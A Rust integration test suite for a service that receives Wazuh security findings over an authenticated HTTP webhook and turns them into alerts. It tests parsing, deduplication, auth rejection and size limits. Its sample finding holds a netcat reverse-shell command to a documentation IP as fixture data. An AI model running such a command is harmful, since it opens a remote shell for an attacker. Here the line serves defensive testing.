//! Findings of Wazuh 5 over HTTP, into a courier that stays.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};

use serde_json::{Value, json};

use crate::stage::{Stage, alert};

const TOKEN: &str = "a-token-of-some-length";

/// A finding as Security Analytics writes it.
fn finding(number: u32) -> Value {
    json!({
        "@timestamp": "2026-08-21T10:15:30.123Z",
        "event": { "doc_id": format!("doc-{number}"), "kind": "event", "category": ["process"], "original": "<b>raw</b>" },
        "process": { "command_line": format!("nc -e /bin/sh 203.0.113.{number} 4444"), "executable": "/usr/bin/nc", "pid": 4711 },
        "user": { "name": "www-data" },
        "destination": { "ip": format!("203.0.113.{number}"), "port": 4444 },
        "wazuh": {
            "agent": { "id": "007", "name": "web-01", "groups": ["dmz"], "host": { "os": { "name": "Debian", "platform": "debian" } } },
            "cluster": { "name": "wazuh", "node": "node01" },
            "integration": { "name": "linux-auditd", "category": "system-activity" },
            "rule": {
                "id": format!("c06abe18-8ffe-484f-861f-{number:012}"), "title": "Netcat with a shell", "level": "critical",
                "tags": ["attack.execution"],
                "mitre": { "technique": { "id": ["T1059"], "name": ["Command and Scripting Interpreter"] } }
            }
        }
    })
}

struct Hook {
    stage: Stage,
    address: SocketAddr,
}

impl Hook {
    async fn new(more: &str) -> Self {
        let mut stage = Stage::new().await;
        // Free at this moment; nobody else on this machine is told of it.
        let address = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let state = stage.home().join("token");
        std::fs::write(&state, TOKEN).unwrap();
        stage.settings(&format!(
            "{more}\n[webhook]\nlisten = \"{address}\"\ntoken_file = \"{}\"\nmax_bytes = 65536\n[noise]\nburst_max = 0\n",
            state.display()
        ));
        stage.start_courier();
        let hook = Self { stage, address };
        hook.stage
            .until("a receiver", |_| TcpStream::connect(hook.address).is_ok())
            .await;
        hook
    }

    /// One request on a connection of its own: status and text of the answer.
    fn send(&self, head: &str, body: &[u8]) -> (u16, String) {
        let mut stream = TcpStream::connect(self.address).unwrap();
        let head = format!(
            "{head}\r\nHost: x\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        stream.write_all(head.as_bytes()).unwrap();
        // A receiver that has refused already may close before it has read everything.
        let _ = stream.write_all(body);
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        let answer = String::from_utf8(answer).unwrap();
        let status = answer.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0);
        let text = answer.split_once("\r\n\r\n").map_or("", |(_, text)| text).to_owned();
        (status, text)
    }

    fn post(&self, body: &[u8]) -> (u16, String) {
        self.send(
            &format!("POST /findings HTTP/1.1\r\nAuthorization: Bearer {TOKEN}"),
            body,
        )
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn findings_in_every_form_become_alerts_and_a_repeated_one_does_not() {
    let hook = Hook::new("").await;
    let lines = format!("{}\n{}\n", finding(4), finding(5));
    let notification = json!({ "ctx": { "alerts": [{ "sample_documents": [
        { "_index": "wazuh-findings-v5-system-activity", "_id": "a", "_source": finding(6) }
    ] }] } });
    for (body, stored) in [
        (finding(1).to_string(), 1),
        (json!([finding(2), finding(3)]).to_string(), 2),
        (lines, 2),
        (notification.to_string(), 1),
        (finding(1).to_string(), 1),
        // Wazuh 4 alerts may come this way too.
        (alert(1).to_string(), 1),
        // A template has escaped no quotation mark.
        (
            r#"{"wazuh":{"rule":{"title":"Ran "vssadmin"","level":"critical"}}}"#.to_owned(),
            1,
        ),
        (format!("{}{}", finding(7), finding(8)), 2),
    ] {
        let (status, text) = hook.post(body.as_bytes());
        assert_eq!((status, text), (200, json!({ "stored": stored }).to_string()), "{body}");
    }
    let counters = hook
        .stage
        .until("everything delivered", |status| {
            status["delivered"] == 10 && status["repeated"] == 1 && status["waiting"] == 0
        })
        .await;
    assert_eq!(counters["received"], 11, "{counters}");
    let alerts = hook.stage.iris.alerts();
    let one = alerts
        .iter()
        .find(|alert| alert.source_content["_source"]["event"]["doc_id"] == "doc-6")
        .unwrap();
    assert!(
        one.title.contains("Netcat with a shell") && one.title.contains("web-01"),
        "{}",
        one.title
    );
    assert!(one.has_tag("mitre-t1059"), "{:?}", one.tags);
    assert!(one.iocs.iter().any(|ioc| ioc.value == "203.0.113.6"), "{:?}", one.iocs);
    assert_eq!(one.assets[0].name, "web-01");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_body_that_is_sent_again_leaves_as_repeated_whole() {
    let hook = Hook::new("").await;
    let body = json!([finding(1), 7, "{ no JSON"]).to_string();
    for (received, repeated) in [(3, 0), (6, 3)] {
        let (status, text) = hook.post(body.as_bytes());
        assert_eq!((status, text), (200, json!({ "stored": 3 }).to_string()));
        hook.stage
            .until("all of it judged", |status| {
                status["received"] == received && status["repeated"] == repeated && status["waiting"] == 0
            })
            .await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn what_is_refused_is_told_why_and_nothing_of_it_is_stored() {
    let hook = Hook::new("").await;
    let body = finding(1).to_string();
    for head in [
        "POST /findings HTTP/1.1",
        "POST /findings HTTP/1.1\r\nAuthorization: Bearer a-token-of-some-lengtH",
        "POST /findings HTTP/1.1\r\nAuthorization: Bearer ",
        "POST /findings HTTP/1.1\r\nAuthorization: Basic a-token-of-some-length",
    ] {
        let (status, text) = hook.send(head, body.as_bytes());
        assert!(
            status == 401 && text.contains("Bearer") && !text.contains(TOKEN),
            "{head}: {status} {text}"
        );
    }
    let (status, text) = hook.post(&vec![b' '; 65_537]);
    assert!(status == 413 && text.contains("webhook.max_bytes"), "{status} {text}");
    for bad in ["Test message", "{\"a\":1}", "", "{\"a\":{}}\n{"] {
        let (status, text) = hook.post(bad.as_bytes());
        assert!(status == 400 && !text.is_empty(), "{bad}: {status} {text}");
    }
    let (status, _) = hook.send(&format!("GET /findings HTTP/1.1\r\nAuthorization: Bearer {TOKEN}"), b"");
    assert_eq!(status, 405);
    assert_eq!(hook.stage.status()["received"].as_u64().unwrap_or(0), 0);
    assert!(hook.stage.iris.alerts().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_sender_is_asked_to_come_again_when_there_is_no_room() {
    let hook = Hook::new("[spool]\nmin_free_bytes = 1000000000000000000\n").await;
    // The courier writes its limits down in its first round.
    hook.stage
        .until("limits", |_| hook.stage.state().join("limits").exists())
        .await;
    let (status, text) = hook.post(finding(1).to_string().as_bytes());
    assert!(status == 503 && text.contains("again"), "{status} {text}");
    assert_eq!(std::fs::read_dir(hook.stage.state().join("new")).unwrap().count(), 0);
}
